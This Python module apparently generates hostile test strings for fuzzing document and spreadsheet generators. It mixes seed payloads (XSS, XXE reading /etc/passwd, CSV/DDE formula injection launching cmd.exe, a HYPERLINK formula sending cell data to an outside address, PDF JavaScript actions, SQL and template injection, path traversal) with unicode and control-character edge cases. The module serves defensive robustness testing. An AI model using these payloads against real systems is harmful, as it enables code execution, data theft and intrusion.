"""Texts that have broken programs: markup, formulas, paths, directions, controls, lengths; from a seed."""

from __future__ import annotations

import random

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")

SEEDS = (
    # markup of reportlab, HTML and XML
    "<b>粗</b>",
    '<img src="file:///etc/passwd" width="10"/>',
    '<img src="http://192.0.2.1/a.png">',
    '<a href="http://192.0.2.1/?q=1">请点这里</a>',
    '<a href="javascript:alert(1)">甲</a>',
    "<para>甲</para><br/><font color='red'>乙</font>",
    "<seq id=x/><bullet>&bull;</bullet><onDraw name=x/>",
    "<b 没有关",
    "&amp;&lt;&#65;&#x41;&nbsp;&unknown;",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "]]><![CDATA[ 甲 ]]>",
    "</t></is></c></row></sheetData>",
    "<f>1+1</f>",
    # operators and objects of PDF
    ") Tj ET Q 0 0 m (甲",
    "BT /F1 12 Tf (x) Tj ET",
    "\\) \\( \\\\ \\101 \\n",
    "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "endstream endobj 1 0 obj << /OpenAction 2 0 R >> endobj",
    "%PDF-1.7 %%EOF startxref 0 xref trailer",
    "<FEFF0041> Tj",
    # formulas, field codes, format strings, templates, other languages
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/"&A1,"点")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''甲",
    '"=1+1","甲"',
    "甲,乙;丙\t丁\r\n=1",
    'DDE ("cmd";"/C calc";"x")',
    '{ INCLUDEPICTURE "http://192.0.2.1/a" }',
    "{ DDEAUTO c:\\\\windows\\\\cmd.exe }",
    "%s%n%x%d %(name)s {0} {name} {0.__class__}",
    "{{ 7*7 }} {% for x in y %}",
    "${7*7} #{7*7} $(id) `id`",
    "'; DROP TABLE r_person; --",
    '" OR 1=1 --',
    "\\u4e00 \\x41 &#x4e00;",
    "_x0041_ _x005F_ _x000D_ _xD800_",
    "_x0041\x01x0042_",
    "__x0000_\0",
    'REST: {"a": 1}',
    # paths, addresses, names that systems keep
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\Users\\x\\NUL",
    "\\\\192.0.2.1\\share\\a",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "https://192.0.2.1/a?b=c&d=%00#e",
    "mailto:a@example.invalid",
    "CON.txt . .",
    # directions, joiners, marks, blanks
    "\u202e甲乙丙\u202c",
    "\u2066abc\u2069\u200fdef\u200e",
    "אבג דהו",
    "العربية ١٢٣",
    "👨\u200d👩\u200d👧\u200d👦",
    "🇨🇳👍🏽",
    "e\u0301a\u0308o\u0302\u0323",
    "é甲\u0300\u0301\u0302\u0303\u0304",
    "Z͑ͫ̓ͪ̂ͫ̽a̛l̠g̺o",
    "甲\u00a0乙\u3000丙\u2003丁\u2028戊\u2029己\u0085庚",
    "甲\ufe0f乙\U000e0100丙\u180b",
    "\u00ad软\u00ad连\u00ad字",
    "ﬁ ﬂ ㍿ ㎏ Ⅳ ①",
    # controls and what no encoding likes
    "\0",
    "甲\0乙\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x1f\x7f",
    "\x80\x85\x9b\x9f",
    "\ufffe\uffff\ufffd",
    "\U0001fffe\U0010ffff\ue000",
    "甲\r\n乙\r丙\n丁",
    # rare Han, odd widths, numbers
    "䶮𬍛𫍲𬭊𠅤𪚥㛃〇",
    "𠮷野家𡈽𩸽",
    "𰻝𱁬𲎯",
    "ｶﾀｶﾅ ＡＢＣ １２３",
    "000123",
    "110105196203051234",
    "1-2",
    "3E5",
    "2026-06-30",
    "TRUE",
    "#REF!",
    "NULL",
    "None",
    "NaN",
)
_ALPHABET = "甲乙丙丁=+-@<>&()\\/%{}$'\"_x0041 \t\n\r\0\u202e\u200d\u0301é😀𠮷،א\x01\x7f\ufffe"


def hostile(count: int, seed: int) -> list[str]:
    """`count` different texts: the known ones, long ones, then mixtures and noise."""
    rng = random.Random(seed)
    found = dict.fromkeys([*SEEDS, "字" * 20_000, "=" + "1+" * 9_999 + "1", "😀" * 20_000, "\0甲" * 9_000])
    while len(found) < count:
        found[_made(rng)] = None
    return [*found][:count]


def _made(rng: random.Random) -> str:
    if rng.random() < 0.5:
        return "".join(rng.choice(SEEDS) for _ in range(rng.randint(2, 4)))
    return "".join(rng.choice(_ALPHABET) for _ in range(rng.randint(1, 60)))
